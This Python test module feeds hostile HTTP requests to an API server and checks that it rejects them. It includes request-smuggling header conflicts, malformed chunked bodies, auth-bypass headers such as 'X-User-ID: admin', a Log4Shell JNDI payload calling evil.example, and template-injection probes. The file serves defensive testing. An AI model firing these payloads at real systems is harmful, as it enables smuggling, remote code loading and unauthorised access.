"""Requests that try to be read in two ways, or not at all."""

from __future__ import annotations

from collections.abc import Iterator

from tests.e2e.hostile_cases import ASK, CHAT, JSON, KEY, Case, ask, get, request

BAD = "bad_request"
# Behind a request whose length is unclear: must never be answered.
SMUGGLED = b"GET /health HTTP/1.1\r\nHost: test\r\n\r\n"
CHUNKED = "Transfer-Encoding: chunked"
_CHUNK = b"%x\r\n%s\r\n0\r\n\r\n" % (len(CHAT), CHAT.encode())


def framing_cases() -> Iterator[Case]:
    """Yield requests whose end, line or fields are in doubt."""
    yield from _lengths()
    yield from _chunks()
    yield from _lines()
    yield from _hosts()
    yield from _fields()
    yield from _duplicates()
    yield from _protocols()


def _lengths() -> Iterator[Case]:
    cases: dict[str, tuple[str | bytes, ...]] = {
        "length-and-chunks": ("Content-Length: 5", CHUNKED),
        "chunks-and-length": (CHUNKED, "Content-Length: 5"),
        "two-lengths": ("Content-Length: 5", "Content-Length: 6"),
        "list-of-lengths": ("Content-Length: 21, 22",),
        "plus": ("Content-Length: +21",),
        "minus": ("Content-Length: -1",),
        "hexadecimal": ("Content-Length: 0x15",),
        "exponent": ("Content-Length: 2e1",),
        "fraction": ("Content-Length: 21.0",),
        "letters": ("Content-Length: ten",),
        "no-value": ("Content-Length:",),
        "underscore-inside": ("Content-Length: 2_1",),
        "arabic-digits": (b"Content-Length: \xd9\xa2\xd9\xa1",),
        "name-with-space": ("Content-Length : 21",),
        "name-with-tab": ("Content-Length\t: 21",),
        "te-gzip": ("Transfer-Encoding: gzip",),
        "te-gzip-chunked": ("Transfer-Encoding: gzip, chunked",),
        "te-twice": (CHUNKED, CHUNKED),
        "te-chunked-chunked": ("Transfer-Encoding: chunked, chunked",),
        "te-identity": ("Transfer-Encoding: identity",),
        "te-xchunked": ("Transfer-Encoding: xchunked",),
        "te-quoted": ('Transfer-Encoding: "chunked"',),
        "te-vertical-tab": ("Transfer-Encoding: \x0bchunked",),
        "te-null": ("Transfer-Encoding: chunked\x00",),
        "te-name-with-space": ("Transfer-Encoding : chunked",),
        "te-parameter": ("Transfer-Encoding: chunked;q=1",),
        "te-empty": ("Transfer-Encoding:",),
    }
    for name, fields in cases.items():
        data = request("POST", "/v1/chat", *ASK, JSON, *fields)
        yield Case(f"length/{name}", data + _CHUNK + SMUGGLED, 400, BAD, alone=True)
    for name, value in {"huge": "9" * 18, "16-mb": str(16 << 20)}.items():
        data = request("POST", "/v1/chat", *ASK, JSON, f"Content-Length: {value}")
        yield Case(f"length/{name}", data, 413, "payload_too_large", alone=True)
    beyond = request("POST", "/v1/chat", *ASK, JSON, "Content-Length: " + "9" * 40)
    yield Case("length/beyond-numbers", beyond, 400, BAD, alone=True)


def _chunks() -> Iterator[Case]:
    for name, body in {
        "no-number": b"zz\r\nhello\r\n0\r\n\r\n",
        "minus": b"-1\r\nhello\r\n0\r\n\r\n",
        "hexadecimal-mark": b"0x5\r\nhello\r\n0\r\n\r\n",
        "space-in-front": b" 5\r\nhello\r\n0\r\n\r\n",
        "underscore": b"1_5\r\nhello\r\n0\r\n\r\n",
        "too-short": b"2\r\nhello\r\n0\r\n\r\n",
        "21-digits": b"F" * 21 + b"\r\nhello",
        "no-end-of-line": b"5hello\r\n0\r\n\r\n",
        "endless-size-line": b"5;" + b"a" * 70_000,
        "trailer-without-colon": b"0\r\nnonsense\r\n\r\n",
        "trailer-nul": b"0\r\nX: a\x00b\r\n\r\n",
    }.items():
        data = ask(CHUNKED, body=body, sized=False)
        yield Case(f"chunk/{name}", data + SMUGGLED, 400, BAD, alone=True)
    trailer = ask(CHUNKED, body=b"0\r\nX-API-Key: tanya_wrong\r\n\r\n", sized=False)
    yield Case("chunk/trailer-is-no-field", trailer, 400, "body_malformed")
    data = ask(CHUNKED, body=_CHUNK, sized=False)
    yield Case("chunk/well-formed", data, 200, None)
    parts = b"".join(b"1\r\n%c\r\n" % one for one in CHAT.encode())
    yield Case(
        "chunk/a-byte-each",
        ask(CHUNKED, body=parts + b"0\r\n\r\n", sized=False),
        200,
        None,
    )
    extension = b"%x;name=value\r\n%s\r\n0\r\n\r\n" % (len(CHAT), CHAT.encode())
    yield Case("chunk/extension", ask(CHUNKED, body=extension, sized=False), 200, None)


def _lines() -> Iterator[Case]:
    tail = b"Host: test\r\nX-API-Key: " + KEY.encode() + b"\r\n\r\n"
    for name, line in {
        "garbage": b"\x00\x01\x02\x03",
        "words": b"HELLO",
        "tls": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        "no-version": b"GET /health",
        "no-target": b"GET HTTP/1.1",
        "two-spaces": b"GET  /health HTTP/1.1",
        "tab": b"GET\t/health\tHTTP/1.1",
        "space-in-target": b"GET /health /x HTTP/1.1",
        "nul-in-target": b"GET /health\x00 HTTP/1.1",
        "control-in-target": b"GET /\x01health HTTP/1.1",
        "delete-in-target": b"GET /\x7f HTTP/1.1",
        "method-with-brackets": b"G[]T /health HTTP/1.1",
        "method-latin-1": b"G\xc9T /health HTTP/1.1",
        "version-lower": b"GET /health http/1.1",
        "version-spelt": b"GET /health HTTP/one",
        "version-short": b"GET /health HTTP/1",
        "version-long": b"GET /health HTTP/1.10",
        "carriage-return-inside": b"GET /he\ralth HTTP/1.1",
        "space-in-front": b" GET /health HTTP/1.1",
    }.items():
        yield Case(f"line/{name}", line + b"\r\n" + tail, 400, BAD, alone=True)
    preface = b"PRI * HTTP/2.0\r\nHost: test\r\n\r\nSM\r\n\r\n"
    yield Case("line/http2-preface", preface, 400, BAD, alone=True)
    yield Case("line/30-kb", get("/" + "a" * 30_000), 404, "not_found")
    for name, size in {"60-kb": 60_000, "200-kb": 200_000}.items():
        data = get("/" + "a" * size)
        yield Case(f"line/{name}", data, 431, "headers_too_large", alone=True)
    yield Case("line/only-blank-lines", b"\r\n" * 200 + b"\x00\r\n\r\n", 400, BAD)


def _hosts() -> Iterator[Case]:
    for name, hosts in {
        "none": [],
        "two": ["Host: a", "Host: b"],
        "two-equal": ["Host: a", "Host: a"],
    }.items():
        data = request(
            "GET", "/v1/conversations", f"X-API-Key: {KEY}", *hosts, host=None
        )
        yield Case(f"host/{name}", data, 400, BAD, alone=True)
    for name, host in {
        "foreign": "evil.example",
        "port": "test:99999",
        "path": "test/../../x",
        "user": "a@b",
        "script": "<script>alert(1)</script>",
        "quote": "a'b\"c",
        "empty": "",
        "brackets": "[::1]",
        "unclosed": "[::1",
    }.items():
        data = request("GET", "/v1/nothing", f"X-API-Key: {KEY}", host=f"Host: {host}")
        yield Case(f"host/{name}", data, 404, "not_found")


def _fields() -> Iterator[Case]:
    for name, line in {
        "space-in-name": b"X Bad: 1",
        "no-name": b": 1",
        "no-colon": b"nonsense",
        "nul-in-name": b"X\x00: 1",
        "nul-in-value": b"X-A: a\x00b",
        "carriage-return-in-value": b"X-A: a\rb",
        "latin-1-in-name": b"X-\xe9: 1",
        "brackets-in-name": b"X(a): 1",
        "quote-in-name": b'X"a": 1',
        "nul-in-conversation": b"X-Conversation-Id: a\x00b",
        "nul-in-key": b"X-API-Key: a\x00b",
        "nul-in-request-id": b"X-Request-ID: a\x00b",
    }.items():
        data = request("GET", "/v1/conversations", line)
        yield Case(f"field/{name}", data, 400, BAD, alone=True)
    for name, fields in {
        "33-kb": ["X-A: " + "a" * 33_000],
        "100-kb": ["X-A: " + "a" * 100_000],
        "101-fields": [f"X-{n}: a" for n in range(101)],
        "1000-fields": [f"X-{n}: a" for n in range(1000)],
        "33-kb-name": ["X" * 33_000 + ": a"],
        "cookies": [f"Cookie: a{n}={'b' * 700}" for n in range(50)],
    }.items():
        yield Case(
            f"field/{name}", get("/v1/conversations", *fields), 431, "headers_too_large"
        )
    for name, field in {
        "underscore-key": f"X_API_Key: {KEY}",
        "underscore-authorization": f"Authorization_: Bearer {KEY}",
        "key-in-cookie": f"Cookie: X-API-Key={KEY}; api_key={KEY}",
        "basic": "Authorization: Basic " + "QGRtaW46YWRtaW4=",
        "digest": 'Authorization: Digest username="a"',
        "negotiate": "Authorization: Negotiate YII=",
        "bearer-without-space": f"Authorization: Bearer{KEY}",
        "bearer-comma": f"Authorization: Bearer {KEY}, Bearer {KEY}",
        "token": f"Authorization: Token {KEY}",
        "proxy-authorization": f"Proxy-Authorization: Bearer {KEY}",
        "user": "X-User-ID: admin",
        "remote-user": "Remote-User: admin",
        "client-certificate": "X-SSL-Client-Verify: SUCCESS",
        "original-url": "X-Original-URL: /health",
        "rewrite-url": "X-Rewrite-URL: /health",
        "method-override": "X-HTTP-Method-Override: OPTIONS",
        "forwarded-for": "X-Forwarded-For: 127.0.0.1",
        "forwarded-prefix": "X-Forwarded-Prefix: /health",
        "script-name": "Script-Name: /v1",
        "tenant": "X-Tenant: default",
        "bell": f"X-API-Key: {KEY}\x07",
        "escape": f"X-API-Key: \x1b[31m{KEY}",
    }.items():
        data = request("GET", "/v1/conversations", field)
        yield Case(f"no-key/{name}", data, 401, "not_authenticated")
    folded = get("/v1/conversations", "X-A: a\r\n b")
    yield Case("field/folded", folded, 200, None)


def _duplicates() -> Iterator[Case]:
    for field in (
        f"X-API-Key: {KEY}",
        "Authorization: Bearer a",
        "X-Conversation-Id: a",
        "Idempotency-Key: a",
        "Origin: https://a.example",
        "Content-Type: application/json",
        "Content-Encoding: identity",
        "X-Request-ID: a",
        "Referer: https://a.example",
        "User-Agent: a",
        "Upgrade: h2c",
        "Range: bytes=0-1",
        "X-Forwarded-Host: a",
        "X-Forwarded-Proto: https",
        "X-User-ID: a",
        "Expect: 100-continue",
    ):
        name = field.partition(":")[0].lower()
        data = request("GET", "/v1/conversations", field, field)
        yield Case(f"twice/{name}", data, 400, BAD)
    cased = request("GET", "/v1/conversations", f"x-api-key: {KEY}", "X-API-KEY: other")
    yield Case("twice/in-other-case", cased, 400, BAD)


def _protocols() -> Iterator[Case]:
    cases: dict[str, list[str | bytes]] = {
        "h2c": [
            "Upgrade: h2c",
            "Connection: Upgrade, HTTP2-Settings",
            "HTTP2-Settings: ",
        ],
        "nonsense": ["Upgrade: nonsense/9", "Connection: Upgrade"],
        "connection-names-the-key": ["Connection: close, X-API-Key"],
        "expect-nonsense": ["Expect: 200-maybe"],
        "te": ["TE: trailers, deflate;q=0.5"],
        "range": ["Range: bytes=0-0,5-9999999"],
        "conditions": ['If-None-Match: "*"', "If-Modified-Since: yesterday"],
        "proxy": ["Proxy: http://evil.example"],
        "pragma": ["Pragma: akamai-x-get-cache-key"],
        "forwarded": ["Forwarded: for=1.1.1.1;host=evil;proto=https"],
        "host-override": ["X-Forwarded-Host: evil.example", "X-Host: evil.example"],
        "log4j": ["User-Agent: ${jndi:ldap://evil.example/a}"],
        "template": ["Referer: {{7*7}} ${7*7} <%= 7*7 %>"],
        "latin-1": [b"X-A: caf\xe9 \xff\xfe"],
    }
    for name, fields in cases.items():
        yield Case(f"protocol/{name}", get("/v1/conversations", *fields), 200, None)
    yield from _handshakes()
    old = request(
        "GET", "/v1/conversations", f"X-API-Key: {KEY}", version="HTTP/1.0", host=None
    )
    yield Case("protocol/http-1.0", old, 200, None, alone=True)
    for version in ("HTTP/0.9", "HTTP/2.0", "HTTP/9.9"):
        data = request("GET", "/v1/conversations", f"X-API-Key: {KEY}", version=version)
        yield Case(f"protocol/{version.lower()}", data, 400, BAD, alone=True)


def _handshakes() -> Iterator[Case]:
    key, version = (
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13",
    )
    upgrade = ("Upgrade: websocket", "Connection: Upgrade")
    for name, fields in {
        "no-key": [version],
        "short-key": ["Sec-WebSocket-Key: YQ==", version],
        "key-not-base64": ["Sec-WebSocket-Key: !!!", version],
        "two-keys": [key, key, version],
        "no-version": [key],
        "old-version": [key, "Sec-WebSocket-Version: 8"],
        "extension": [key, version, "Sec-WebSocket-Extensions: ;;=,"],
        "protocol": [key, version, "Sec-WebSocket-Protocol: a b\x07"],
    }.items():
        data = request("GET", "/v1/chat", *ASK, *upgrade, *fields)
        yield Case(f"websocket/{name}", data, 400, BAD, alone=True)
    for path in ("/v1/chat", "/health", "/nowhere", "//v1/realtime"):
        data = request("GET", path, *ASK, *upgrade, key, version)
        yield Case(f"websocket/{path}", data, 404, "not_found", alone=True)
    data = request("POST", "/v1/chat", *ASK, *upgrade, key, version)
    yield Case("websocket/post", data, 400, BAD, alone=True)
    twice = ("X-Conversation-Id: a", "X-Conversation-Id: b")
    data = request("GET", "/v1/chat", *twice, *upgrade, key, version)
    yield Case("websocket/doubtful", data, 400, BAD, alone=True)
